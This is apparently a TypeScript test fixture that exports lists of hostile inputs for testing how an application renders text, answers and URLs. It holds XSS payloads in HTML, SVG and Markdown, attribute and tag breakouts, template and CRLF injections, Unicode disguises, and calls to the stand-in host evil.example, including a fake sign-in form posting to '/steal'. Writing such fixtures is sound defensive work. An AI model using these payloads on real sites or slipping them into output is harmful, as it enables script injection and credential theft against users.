/**
 * Texts that try to become a program, a request, or a disguise on a page. A successful one opens a dialog,
 * sets `globalThis.hostile`, or sends a request to 192.0.2.x or evil.example.
 */
const EVIL = 'https://evil.example';
const RUN = 'globalThis.hostile=1;alert(1)';

const HTML = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src="${EVIL}/a.js"></script>`,
  `<script type="module">import("${EVIL}/b.js")</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="${EVIL}/pixel.png" alt="">`,
  `<IMG SRC=x:x ONERROR=${RUN}>`,
  `<img src=x onerror=&#97;lert(1)>`,
  `<img/src=x/onerror=${RUN}//`,
  `<body onload=${RUN}>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<form action="${EVIL}/steal"><button>Sign in</button></form>`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<video><source onerror=${RUN}></video>`,
  `<base href="${EVIL}/">`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}/">`,
  `<link rel="stylesheet" href="${EVIL}/a.css">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<div style="background:url(${EVIL}/s.png)">x</div>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
];

const SVG = [
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<svg><use href="${EVIL}/a.svg#x"/></svg>`,
  `<svg><foreignObject><iframe src="javascript:${RUN}"/></foreignObject></svg>`,
  `</title></svg><script>${RUN}</script>`,
];

const BREAKS = [
  `"><script>${RUN}</script>`,
  `'><img src=x onerror=${RUN}>`,
  `" onmouseover="${RUN}" x="`,
  `" autofocus onfocus="${RUN}`,
  `' onclick='${RUN}`,
  `\` onclick=${RUN}`,
  `x" style="background:url(${EVIL}/s.png)`,
  `</script><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</option></select><script>${RUN}</script>`,
  `--><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script>`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `<%= ${RUN} %>`,
  `';${RUN};//`,
  `\\";${RUN};//`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\u003cscript\u003e${RUN}`,
  `a\r\nSet-Cookie: hostile=1\r\n\r\n<script>${RUN}</script>`,
  `<!--`,
  `<`,
  `&`,
];

/** Markdown, as in answers. */
const MARKDOWN = [
  `[x](javascript:${RUN})`,
  `[x](JaVaScRiPt:${RUN})`,
  `[x](&#106;avascript:${RUN})`,
  `[x](java\tscript:${RUN})`,
  `[x](<java\nscript:${RUN}>)`,
  `[x](\u0001javascript:${RUN})`,
  `[x](  javascript:${RUN})`,
  `[x](javascript&colon;${RUN})`,
  `[x](data:text/html,<script>${RUN}</script>)`,
  `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[x](vbscript:msgbox(1))`,
  `[x](file:///etc/passwd)`,
  `[x](blob:${EVIL}/1)`,
  `[x](//evil.example/)`,
  `[x](/sign-out)`,
  `[x](https://evil.example/ "onclick=${RUN}")`,
  `[x](https://evil.example/"onmouseover="${RUN})`,
  `[x](https://user:password@evil.example/)`,
  `![x](${EVIL}/pixel.png)`,
  `![x](javascript:${RUN})`,
  `![x"onerror="${RUN}](x)`,
  `[![x](${EVIL}/pixel.png)](javascript:${RUN})`,
  `<javascript:${RUN}>`,
  `[x]: javascript:${RUN}\n\n[x]`,
  `[^1]\n\n[^1]: <script>${RUN}</script>`,
  `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
  `\`\`\`"><script>${RUN}</script>\nx\n\`\`\``,
  `| a |\n|---|\n| <img src=x onerror=${RUN}> |`,
  `# <img src=x onerror=${RUN}>`,
  `${'> '.repeat(200)}deep`,
  `${'*a **b '.repeat(200)}`,
];

/** Text that reads differently from what it says. */
const DISGUISES = [
  '\u202Egnp.exe',
  'a\u202Db\u202Ec',
  '\u2067right\u2066left',
  'שלום "><b>x',
  'a\u0000b',
  'a\uFEFFb\u200Bc\u00ADd',
  'Z\u0351\u036B\u0343\u0327'.repeat(20),
  'W'.repeat(300),
  'аррӏе.example',
];

const URLS = [
  `${EVIL}/?q="><script>${RUN}</script>`,
  `${EVIL}/#' onclick='${RUN}`,
  `${EVIL}/javascript:${RUN}`,
  `https://evil.example/%22%3E%3Cscript%3E${RUN}`,
  'https://xn--80ak6aa92e.example/',
  'http://192.0.2.7/<svg onload=alert(1)>',
  `https://evil.example/${'a'.repeat(400)}`,
];

/** For every one-line text. */
export const HOSTILE_TEXTS: readonly string[] = [...HTML, ...SVG, ...BREAKS, ...DISGUISES];

/** For answer texts. */
export const HOSTILE_ANSWERS: readonly string[] = [...HOSTILE_TEXTS, ...MARKDOWN];

/** For web addresses. */
export const HOSTILE_URLS: readonly string[] = URLS;
